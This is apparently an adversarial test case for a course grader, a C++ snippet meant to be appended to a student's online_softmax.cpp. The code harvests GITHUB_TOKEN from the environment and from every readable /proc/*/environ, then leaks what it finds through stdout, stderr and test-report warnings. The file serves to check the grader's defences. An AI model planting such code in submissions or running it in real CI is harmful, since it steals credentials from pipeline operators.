// Adversarial case secrets-token-runtime (solutions/lesson13/attacks/secrets-token-runtime/case.json): appended to the solution's online_softmax.cpp.
// Run: grader/tests/adversarial_test.py build/bin/grader . --only secrets-token-runtime

#include <catch2/catch.hpp>
#include <dirent.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iterator>
#include <string>

namespace lesson13 {
namespace {

// Everything it found goes back through the report: WARN() (shown even when the test
// passes), stdout and stderr.
void adv_leak(const std::string& what) {
  std::printf("%s\n", what.c_str());
  std::fprintf(stderr, "%s\n", what.c_str());
  WARN(what.substr(0, 3000));
}

std::string adv_read(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return {};
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  for (char& c : text)
    if (c == '\0') c = '\n';
  return path + ":\n" + text.substr(0, 20000);
}

}  // namespace

void adv_find_token() {
  static bool done = false;
  if (done) return;
  done = true;
  std::string found;
  if (const char* t = std::getenv("GITHUB_TOKEN")) found += std::string("getenv: ") + t + "\n";
  found += adv_read("/proc/self/environ");
  found += adv_read("/proc/" + std::to_string(getppid()) + "/environ");
  found += adv_read("/proc/1/environ");
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      const std::string env = adv_read(std::string("/proc/") + e->d_name + "/environ");
      const size_t at = env.find("GITHUB_TOKEN=");
      if (at != std::string::npos) found += env.substr(at, 80) + "\n";
    }
    closedir(d);
  }
  adv_leak(found);
}
}  // namespace lesson13
